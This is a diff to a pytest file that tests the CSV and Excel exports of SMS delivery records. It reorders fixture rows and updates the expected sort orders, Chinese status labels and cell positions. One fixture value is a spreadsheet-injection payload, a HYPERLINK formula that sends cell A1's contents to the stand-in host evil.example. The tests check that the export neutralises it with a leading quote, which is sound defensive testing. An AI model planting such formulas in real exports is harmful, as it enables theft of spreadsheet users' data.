@@ -43,11 +43,12 @@ def stored(past_day):
         stored_count=6,
     )
     waiting_since = timezone.now() - timedelta(hours=30)
+    # In upstream's order, newest send first: the waiting one was sent last.
     rows = [
+        (Status.WAITING, "", "SMS_4", "-5 积分已到账", "", None, None),
         (Status.DELIVERED, "DELIVERED", "SMS_100000001", HYPERLINK, "-order-7", (10, 0, 0), 5),
         (Status.DELIVERED, "DELIVERED", "SMS_271935402", CODE_TEXT, "", (9, 30, 0), 3),
         (Status.FAILED, "MOBILE_NOT_ON_SERVICE", "@SMS_3", BILL, "+1", (9, 0, 0), 40),
-        (Status.WAITING, "", "SMS_4", "-5 积分已到账", "", None, None),
         (Status.DELIVERED, "DELIVERED", "SMS_5", "", "order-9", (8, 0, 0), 1),
     ]
     for position, (status, err_code, template, content, out_id, sent, took) in enumerate(rows):
@@ -82,6 +83,7 @@ def csv_lines(day, waiting_since) -> list[str]:
     """The rows of the CSV export in the store's order, as the tablib export wrote them."""
     waited = timezone.localtime(waiting_since).strftime("%Y-%m-%d %H:%M:%S")
     return [
+        f"{waited},,Waiting,,SMS_4,'-5 积分已到账,,{NO_RECEIPT}\r\n",
         f"{day} 10:00:00,{day} 10:00:05,Delivered,DELIVERED,SMS_100000001,"
         '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",\'-order-7,\r\n',
         f"{day} 09:30:00,{day} 09:30:03,Delivered,DELIVERED,SMS_271935402,"
@@ -89,7 +91,6 @@ def csv_lines(day, waiting_since) -> list[str]:
         f"{day} 09:00:00,{day} 09:00:40,Failed,MOBILE_NOT_ON_SERVICE,'@SMS_3,"
         '"\'+86 提醒：您的账单已出, 请查收 ""本月""\n第二行",\'+1,'
         f'"{OUT_OF_SERVICE}"\r\n',
-        f"{waited},,Waiting,,SMS_4,'-5 积分已到账,,{NO_RECEIPT}\r\n",
         f"{day} 08:00:00,{day} 08:00:01,Delivered,DELIVERED,SMS_5,,order-9,\r\n",
     ]
 
@@ -121,7 +122,7 @@ def test_the_csv_export_is_the_same_file_byte_for_byte(staff, upstream, past_day
 
 @pytest.mark.parametrize(
     ("sort", "order"),
-    [("status", [3, 2, 0, 1, 4]), ("-send_time", [3, 0, 1, 2, 4]), ("template", [0, 1, 2, 3, 4])],
+    [("status", [0, 3, 1, 2, 4]), ("-send_time", [0, 1, 2, 3, 4]), ("template", [0, 1, 2, 3, 4])],
 )
 def test_the_csv_export_follows_the_pages_sort(staff, upstream, past_day, stored, sort, order):
     lines = csv_lines(past_day, stored)
@@ -148,14 +149,14 @@ def test_the_csv_export_speaks_chinese(staff, upstream, past_day, stored):
     header, *rows = text.split("\r\n")
     assert header == "发送时间,接收时间,状态,错误码,模板,内容,OutId,含义"
     assert [row.split(",")[2] for row in rows if row[:4].isdigit()] == [
+        "等待回执",
         "已送达",
         "已送达",
         "失败",
-        "等待回执",
         "已送达",
     ]
-    assert rows[2].endswith(",号码无法接通（停机、空号、关机或不在服务区）。")
-    assert rows[3].endswith(",已过 1\xa0日 仍无回执，大概率不会再返回。请向客户确认是否收到短信。")
+    assert rows[3].endswith(",号码无法接通（停机、空号、关机或不在服务区）。")
+    assert rows[0].endswith(",已过 1\xa0日 仍无回执，大概率不会再返回。请向客户确认是否收到短信。")
 
 
 def test_the_excel_export_holds_the_same_cells(staff, upstream, past_day, stored):
@@ -188,6 +189,7 @@ def test_the_excel_export_holds_the_same_cells(staff, upstream, past_day, stored
             "OutId",
             "What it means",
         ],
+        [waited, None, "Waiting", None, "SMS_4", "'-5 积分已到账", None, NO_RECEIPT],
         [
             f"{day} 10:00:00",
             f"{day} 10:00:05",
@@ -218,7 +220,6 @@ def test_the_excel_export_holds_the_same_cells(staff, upstream, past_day, stored
             "'+1",
             OUT_OF_SERVICE,
         ],
-        [waited, None, "Waiting", None, "SMS_4", "'-5 积分已到账", None, NO_RECEIPT],
         [
             f"{day} 08:00:00",
             f"{day} 08:00:01",
@@ -233,7 +234,7 @@ def test_the_excel_export_holds_the_same_cells(staff, upstream, past_day, stored
     cells = [cell for row in sheet.iter_rows() for cell in row]
     assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
     assert all(cell.font.b for cell in sheet[1])
-    assert [cell.coordinate for cell in cells if cell.alignment.wrap_text] == ["F4"]
+    assert [cell.coordinate for cell in cells if cell.alignment.wrap_text] == ["F5"]
 
 
 # Since the exports are streamed.
